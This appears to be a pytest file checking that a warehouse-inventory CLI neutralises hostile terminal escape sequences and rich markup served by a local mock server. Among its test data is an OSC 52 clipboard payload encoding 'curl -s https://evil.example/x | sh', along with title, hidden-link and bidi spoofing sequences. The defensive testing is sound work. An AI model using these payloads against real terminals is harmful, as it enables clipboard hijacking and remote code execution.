"""Hostile data reaching a terminal (issue: escape sequences, rich markup). A server on 127.0.0.1 returns WMS
data carrying OSC 52 (clipboard), OSC 0 (title), OSC 8 (hidden link), CSI 2J (clear), C1 CSI and a bidi
override; the real CLI runs in a pseudo-terminal and we read the bytes the terminal would interpret."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.conftest import add_connection
from tests.ptyrun import run_on_pty

CLIPBOARD = "\x1b]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"  # curl -s https://evil.example/x | sh
TITLE = "\x1b]0;pwned\x07"
LINK = "\x1b]8;;https://evil.example\x1b\\Support\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J"
C1_CSI = "\x9b2J"
BIDI = "\u202eevil"
EVIL = CLIPBOARD + TITLE + LINK + CLEAR + C1_CSI + BIDI
MARKUP = "[link=https://evil.example]Support[/link] Box [/b] of 3 [bold red]x"
RAW_ATTACKS = (b"\x1b]52", b"\x1b]0;", b"\x1b]8;", b"\x1b[2J", "\x9b".encode(), "\u202e".encode())

ITEM = {
    "id": "inv_1",
    "sku": "SKU-1",
    "name": EVIL,
    "onhand": 1,
    "fulfillable": 1,
    "committed": 0,
    "unfulfillable": 0,
    "awaiting": 0,
}
MARKUP_ITEM = {**ITEM, "id": "inv_2", "sku": "SKU-2", "name": MARKUP}


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:
        pass

    def _send(self, status: int, body: Any) -> None:
        raw = json.dumps(body).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(raw)))
        self.end_headers()
        self.wfile.write(raw)

    def do_GET(self) -> None:  # noqa: N802
        if self.path.startswith("/wms/inventory/inv_1"):
            self._send(200, {"data": ITEM})
        elif self.path.startswith("/wms/inventory/broken"):
            self._send(404, {"error": f"no item {EVIL}", "origin": "trackstar"})
        elif self.path.startswith("/wms/inventory"):
            self._send(200, {"data": [ITEM, MARKUP_ITEM], "next_token": None, "total_count": 2})
        else:
            self._send(404, {"error": "not found"})

    def do_POST(self) -> None:  # noqa: N802
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._send(200, {"link_token": "lt_" + TITLE + CLEAR})


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    url = f"http://127.0.0.1:{server.server_address[1]}"
    monkeypatch.setenv("TRACKSTAR_BASE_URL", url)
    monkeypatch.setenv("TRACKSTAR_API_KEY", "sk_test_hostile_0000")
    add_connection("conn_1", alias="evil")
    yield url
    server.shutdown()
    server.server_close()


def run_in_pty(*args: str, columns: int = 120) -> tuple[int, bytes]:
    """Run the CLI with stdout and stderr on a pseudo-terminal; return its exit code and every byte it wrote."""
    env = {**os.environ, "COLUMNS": str(columns), "LINES": "40", "TERM": "xterm-256color"}
    env.pop("NO_COLOR", None)
    code, out, _ = run_on_pty(list(args), env)
    return code, out


def _assert_neutralised(out: bytes) -> None:
    for attack in RAW_ATTACKS:
        assert attack not in out, f"{attack!r} reached the terminal"
    text = out.decode("utf-8", "replace")
    assert "\\x1b]52;c;" in text and "\\u202e" in text and "\\x9b" in text, "the escapes are shown, not dropped"


def test_table_neutralises_escapes_and_never_parses_markup(hostile: str) -> None:
    code, out = run_in_pty("inventory", "list", "-o", "table", columns=400)
    assert code == 0, out
    _assert_neutralised(out)
    text = out.decode()
    assert "Box [/b] of 3" in text and "[link=https://evil.example]" in text  # shown as typed, not as markup


def test_get_neutralises_escapes(hostile: str) -> None:
    code, out = run_in_pty("inventory", "get", "inv_1")
    assert code == 0, out
    _assert_neutralised(out)


def test_error_line_neutralises_escapes(hostile: str) -> None:
    code, out = run_in_pty("inventory", "get", "broken")
    assert code == 4, out
    _assert_neutralised(out)
    assert b"error: no item" in out


def test_bare_link_token_neutralises_escapes(hostile: str) -> None:
    code, out = run_in_pty("link-token")
    assert code == 0, out
    assert b"\x1b]0;" not in out and b"\x1b[2J" not in out
    assert b"lt_\\x1b]0;pwned\\x07\\x1b[2J" in out


def test_a_customer_id_with_markup_does_not_break_connections_list(hostile: str, cli: Any) -> None:
    add_connection("conn_2", alias="eu")
    from trackstar_cli.config import resolve_paths
    from trackstar_cli.store import Store

    with Store(resolve_paths().database) as store:
        store.save_connection(
            profile="default",
            connection_id="conn_2",
            integration_name="sandbox",
            access_token="tok",
            customer_id="ACME [/EU]",
        )
    code, out = run_in_pty("connections", "list", "-o", "table")
    assert code == 0, out
    assert b"ACME [/EU]" in out


def test_machine_formats_keep_the_data_exact(hostile: str, cli: Any) -> None:
    items = cli("inventory", "list", "--json").json()
    assert [i["name"] for i in items] == [EVIL, MARKUP]
    lines = cli("inventory", "list", "-o", "ndjson").stdout.splitlines()
    assert [json.loads(line)["name"] for line in lines] == [EVIL, MARKUP]
    assert "\x1b" not in cli("inventory", "list", "--json").stdout  # JSON escapes every control character
